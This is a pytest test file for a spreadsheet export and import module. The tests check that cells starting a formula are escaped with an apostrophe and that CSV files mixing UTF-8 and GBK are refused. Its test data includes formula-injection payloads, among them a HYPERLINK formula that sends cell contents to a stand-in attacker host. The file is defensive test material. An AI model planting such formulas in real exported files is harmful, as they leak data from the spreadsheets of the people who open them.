"""Files exchanged with spreadsheets (accounts/spreadsheets.py): cells that would start a formula
are written as text, numbers stay numbers; CSV files are read in one encoding or refused,
naming the row."""

import datetime
from decimal import Decimal

import pytest
from django.db import connection
from hypothesis import given
from hypothesis import strategies as st

from accounts.spreadsheets import (
    FORMULA_TRIGGERS,
    SpreadsheetError,
    csv_text,
    decode_csv,
    read_csv,
    safe_cell,
    safe_text_sql,
)

HOSTILE = [
    '=HYPERLINK("http://evil.example/?d="&A1,"点此")',
    "+1+1",
    "@SUM(1+1)",
    "-1+1",
    "-A1",
    "=1",
    "\t=1+1",
    "\r=1+1",
    "-",
    "+",
]
PLAIN_NUMBERS = ["-12.50", "-60", "+3", "+0.5", "12.50", "0"]
HARMLESS_TEXT = ["张三", "a=b", " =1", "王二-小", "1+1", "", "PL0000000001", "330106"]


@pytest.mark.parametrize("value", HOSTILE)
def test_text_that_starts_a_formula_gets_a_leading_apostrophe_and_stays_readable(value):
    assert safe_cell(value) == "'" + value


@pytest.mark.parametrize("value", PLAIN_NUMBERS + HARMLESS_TEXT)
def test_plain_numbers_and_other_text_are_left_as_they_are(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize(
    "value", [Decimal("-12.50"), -12.5, -3, None, datetime.date(2024, 5, 1), True]
)
def test_values_that_are_not_text_are_never_changed(value):
    assert safe_cell(value) is value


@given(st.text())
def test_no_written_cell_can_start_a_formula_and_every_value_stays_readable(text):
    written = safe_cell(text)
    assert written.endswith(text)
    if written != text:
        assert written == "'" + text
    if written.startswith(FORMULA_TRIGGERS):
        # Only a number is left starting with a sign: a spreadsheet reads it as that number.
        assert written == text and Decimal(text).is_finite()


def test_csv_text_neutralises_every_cell():
    text = csv_text([["name", "amount"], ["=1+1", "-12.50"], ["@SUM(1+1)", Decimal("-1.00")]])
    assert text == "name,amount\r\n'=1+1,-12.50\r\n'@SUM(1+1),-1.00\r\n"


@pytest.mark.postgres
@pytest.mark.django_db
@pytest.mark.parametrize("value", [*HOSTILE, *PLAIN_NUMBERS, *HARMLESS_TEXT, "-1.", "１２", None])
def test_the_sql_rule_is_the_python_rule(value):
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT {safe_text_sql('v')} FROM (SELECT %s::text AS v) t", [value])
        assert cursor.fetchone()[0] == safe_cell(value)


# --- reading ----------------------------------------------------------------------------------

HEADER = "id_number,name\n"


def test_utf8_with_and_without_a_byte_order_mark_and_gb18030_are_read():
    text = HEADER + "330106194001011234,张三\n"
    assert decode_csv(text.encode("utf-8")) == text
    assert decode_csv(b"\xef\xbb\xbf" + text.encode("utf-8")) == text
    assert decode_csv(text.encode("gb18030")) == text


def test_a_utf8_file_with_one_gbk_row_is_refused_naming_that_row():
    # Names whose UTF-8 bytes happen to be valid GB18030 too, as most Chinese names' are.
    rows = [f"33010619400101{n:04d},{name}\n" for n in range(5) for name in ("张三", "李四")]
    content = (HEADER + "".join(rows[:6])).encode("utf-8")
    content += rows[6].encode("gbk") + "".join(rows[7:]).encode("utf-8")
    with pytest.raises(SpreadsheetError, match="第8行不是 UTF-8 编码") as error:
        decode_csv(content)
    assert "另存为 UTF-8" in str(error.value)
    # Decoded whole as GB18030 it raises nothing, with every other name turned to mojibake:
    # the refusal is what stops that.
    assert content.decode("gb18030").count("张三") == 1  # the GBK row's; four became mojibake


def test_a_gbk_file_with_one_utf8_row_is_refused_naming_the_utf8_row():
    rows = [f"33010619400101{n:04d},李{n}\n" for n in range(10)]
    content = (HEADER + "".join(rows[:3])).encode("gbk")
    content += rows[3].encode("utf-8") + "".join(rows[4:]).encode("gbk")
    with pytest.raises(SpreadsheetError, match="第5行是 UTF-8 编码"):
        decode_csv(content)


def test_a_file_in_neither_encoding_is_refused_naming_its_first_bad_row():
    content = HEADER.encode() + b"1,ok\n2,\x81\xff\n"
    with pytest.raises(SpreadsheetError, match="第3行既不是 UTF-8 也不是 GB18030"):
        decode_csv(content)


def test_a_field_over_128_kib_is_refused_naming_the_row_where_it_starts():
    content = (HEADER + "1,张三\n" + '2,"' + "x" * (130 * 1024) + "\n3,王五\n").encode()
    with pytest.raises(SpreadsheetError, match="第3行起有字段超过 128 KiB"):
        read_csv(content)


def test_fields_up_to_the_limit_are_read():
    assert read_csv((HEADER + "1," + "x" * 1000 + "\n").encode()) == [
        ["id_number", "name"],
        ["1", "x" * 1000],
    ]
